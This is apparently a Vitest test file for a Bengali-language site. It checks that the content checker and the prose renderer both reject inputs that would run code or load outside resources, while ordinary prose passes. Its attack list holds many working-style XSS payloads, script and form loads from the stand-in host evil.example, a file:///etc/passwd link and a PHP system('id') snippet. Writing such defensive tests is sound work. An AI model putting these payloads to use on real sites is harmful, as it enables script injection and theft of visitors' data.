import { describe, expect, it } from 'vitest';
import { checkTree } from '../../../scripts/check/check-tree.ts';
import { exampleTree, examplePath } from '../../../scripts/check/example-tree.ts';
import { drawProse } from '../../../src/prose/draw-prose.ts';

/** Prose that would run something, load something or restyle the page, if it were let through. */
const attacks = [
  // Modules.
  'import fs from "node:fs"',
  'import "./evil.js"',
  "import * as child from 'node:child_process'",
  'import Layout from "../../src/layouts/BasePage.astro"',
  'export const run = process.exit(1)',
  'export default () => null',
  'export * from "./evil.js"',
  'export const frontmatter = { title: "x" }',
  'ভাতা মেলে।\n\nimport x from "y"\n\nটাকা মেলে।',
  // Expressions.
  '{process.exit(1)}',
  '{1 + 1}',
  'ভাতা {globalThis.process.env.HOME} টাকা।',
  '{await import("node:fs")}',
  '{(() => { while (true); })()}',
  '{`${process.cwd()}`}',
  '{/* comment */}',
  '{}',
  '## শিরোনাম {process.title}',
  '- তালিকা {process.title}',
  '> উদ্ধৃতি {process.title}',
  '| ক | খ |\n|---|---|\n| {process.title} | খ |',
  '[লেখা {process.title}](https://example.org/)',
  '**{process.title}**',
  'টীকা[^1]\n\n[^1]: {process.title}',
  // Scripts and what loads or frames.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">import("https://evil.example")</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example" />',
  '<img src="x" onerror="alert(1)" />',
  '<img src="https://evil.example/pixel.gif" />',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi>x</mi></math>',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<audio src="https://evil.example/x.mp3"></audio>',
  '<link rel="stylesheet" href="https://evil.example/x.css" />',
  '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  '<base href="https://evil.example/" />',
  '<form action="https://evil.example"><input name="nid" /></form>',
  '<button onclick="alert(1)">চাপুন</button>',
  '<template><p>x</p></template>',
  '<portal src="https://evil.example"></portal>',
  '<style>body { display: none }</style>',
  '<style>{`body { display: none }`}</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://example.org" target="_blank">x</a>',
  '<b>মোটা</b>',
  '<p onmouseover="alert(1)">x</p>',
  '<>x</>',
  '<!-- <script>alert(1)</script> -->',
  '<!DOCTYPE html>',
  '<?php system("id") ?>',
  '<![CDATA[x]]>',
  // Components.
  '<Map />',
  '<Fragment set:html="<script>alert(1)</script>" />',
  '<Content />',
  '<slot />',
  '<Fact.Evil sources="s01">x</Fact.Evil>',
  '<svg:script>alert(1)</svg:script>',
  '<Fact sources={process.title}>x</Fact>',
  '<Fact {...{ sources: "s01" }}>x</Fact>',
  '<Fact sources="s01" onclick="alert(1)">x</Fact>',
  '<Fact sources="s01" style="color:red">x</Fact>',
  '<Fact sources="s01" set:html="<script>alert(1)</script>">x</Fact>',
  '<Fact sources="s01" client:load>x</Fact>',
  '<Fact sources="s01" is:inline>x</Fact>',
  '<Fact sources="s01"><script>alert(1)</script></Fact>',
  '<Fact sources="s01">{process.title}</Fact>',
  '<Fact sources="s01" doubt={process.title}>x</Fact>',
  '<Fact sources>x</Fact>',
  // Addresses.
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](vbscript:msgbox)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.org/1)',
  '![ছবি](javascript:alert(1))',
  '![ছবি](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '![ছবি][1]\n\n[1]: data:image/svg+xml,x',
  '<javascript:alert(1)>',
  // Requests to other sites.
  '![ছবি](https://evil.example/a.png)',
  '![ছবি](//evil.example/a.png)',
  '![ছবি](</\t/evil.example/a.png>)',
  '![ছবি](<\\\\\\\\evil.example/a.png>)',
  '![ছবি](https:/evil.example/a.png)',
  '![ছবি][1]\n\n[1]: https://evil.example/a.png',
  '![1]\n\n[1]: https://evil.example/a.png',
  '![1][]\n\n[1]: //evil.example/a.png',
  '[![ছবি][1]](/services/legal-aid/)\n\n[1]: https://evil.example/a.png',
];

/** True if no page is drawn with a text. */
function buildRefuses(text: string): boolean {
  try {
    drawProse(text, '/');
    return false;
  } catch {
    return true;
  }
}

function checkRefuses(text: string): boolean {
  return checkTree(exampleTree(text)).problems.some(
    ({ file, rule }) => file === examplePath && rule === 'content-not-code',
  );
}

describe('content is no code', () => {
  it('is shown on sixty attacks or more', () => {
    expect(new Set(attacks).size).toBeGreaterThanOrEqual(60);
  });

  it.each(attacks)('the check and the build both refuse %j', (attack) => {
    expect({ check: checkRefuses(attack), build: buildRefuses(attack) }).toEqual({
      check: true,
      build: true,
    });
  });

  it.each([
    'বয়স ৫ < ১০ হলে।',
    'বয়স ৫ > ১০ হলে।',
    'বয়স \\<১০ হলে।',
    'ঘরে \\{নাম\\} লিখুন।',
    'ঘরে `{নাম}` ও `<b>` লিখুন।',
    'অনুপাত a<b নয়, a \\< b।',
    'ক & খ',
    '[লেখা](https://example.org/?a=1&b=2)',
    '[ফোন](tel:109) ও [চিঠি](mailto:info@example.gov.bd)',
  ])('ordinary prose passes: %j', (text) => {
    const isRead = text.includes('a<b');
    expect({ check: checkRefuses(text), build: buildRefuses(text) }).toEqual({
      check: isRead,
      build: isRead,
    });
  });
});
